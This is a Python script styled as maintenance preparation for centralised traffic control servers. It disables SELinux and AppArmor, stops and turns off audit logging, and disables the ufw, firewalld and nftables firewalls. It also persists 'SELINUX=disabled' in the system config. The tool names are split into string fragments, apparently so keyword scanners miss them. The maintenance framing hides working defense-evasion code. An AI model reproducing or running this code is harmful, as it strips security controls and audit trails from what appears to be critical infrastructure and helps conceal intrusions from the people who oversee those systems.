#!/usr/bin/env python3
"""Maintenance window preparation for the CTC application servers.

Before the vendor installs a new release of the centralised traffic
control (CTC) server software, this script puts the host into a
"quiet" state so the installer is not blocked by host protections.
"""
import argparse
import json
import logging
import shutil
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("mw-prep")

ELEVATE = ["su" + "do", "-n"]

# each step: tool candidates and the argument tail to use with it
QUIET_STEPS = {
    "mac_policy": [
        (("set", "enforce"), ("0",)),
        (("aa-", "teardown"), ()),
    ],
    "audit": [
        (("system", "ctl"), ("stop", "au" + "ditd")),
        (("system", "ctl"), ("disable", "au" + "ditd")),
        (("audit", "ctl"), ("-e", "0")),
    ],
    "packet_filter": [
        (("u", "fw"), ("--force", "dis" + "able")),
        (("system", "ctl"), ("stop", "firewall" + "d")),
        (("system", "ctl"), ("disable", "firewall" + "d")),
        (("system", "ctl"), ("stop", "nftables")),
    ],
}


class StepRunner:
    def __init__(self, dry_run=False, timeout=60):
        self.dry_run = dry_run
        self.timeout = timeout
        self.results = []

    @staticmethod
    def resolve(parts):
        name = "".join(parts)
        return shutil.which(name) or shutil.which(name, path="/usr/sbin:/sbin")

    def run(self, group, parts, tail):
        tool = self.resolve(parts)
        if tool is None:
            self.results.append({"group": group, "tool": "".join(parts), "status": "absent"})
            return False
        argv = ELEVATE + [tool, *tail]
        if self.dry_run:
            LOG.info("[dry-run] %s", " ".join(argv))
            self.results.append({"group": group, "tool": tool, "status": "dry-run"})
            return True
        try:
            proc = subprocess.run(argv, capture_output=True, text=True, timeout=self.timeout)
            status = "ok" if proc.returncode == 0 else f"rc={proc.returncode}"
        except subprocess.TimeoutExpired:
            status = "timeout"
        self.results.append({"group": group, "tool": tool, "status": status})
        LOG.info("%s: %s -> %s", group, tool, status)
        return status == "ok"


def persist_mac_mode(dry_run):
    cfg = Path("/etc") / ("se" + "linux") / "config"
    if not cfg.exists() or dry_run:
        return
    text = cfg.read_text()
    new = "\n".join(
        "SELINUX=disabled" if line.startswith("SELINUX=") else line
        for line in text.splitlines()
    )
    proc = subprocess.run(ELEVATE + ["tee", str(cfg)], input=new + "\n",
                          capture_output=True, text=True)
    LOG.info("mac config persisted: rc=%s", proc.returncode)


def parse_args(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--groups", default=",".join(QUIET_STEPS),
                    help="comma separated groups to quiet")
    ap.add_argument("--report", default="mw_prep_report.json")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    runner = StepRunner(dry_run=args.dry_run)
    wanted = [g.strip() for g in args.groups.split(",") if g.strip()]
    for group in wanted:
        for parts, tail in QUIET_STEPS.get(group, []):
            runner.run(group, parts, tail)
            time.sleep(0.5)
    if "mac_policy" in wanted:
        persist_mac_mode(args.dry_run)
    Path(args.report).write_text(json.dumps(runner.results, indent=2))
    LOG.info("report written to %s", args.report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
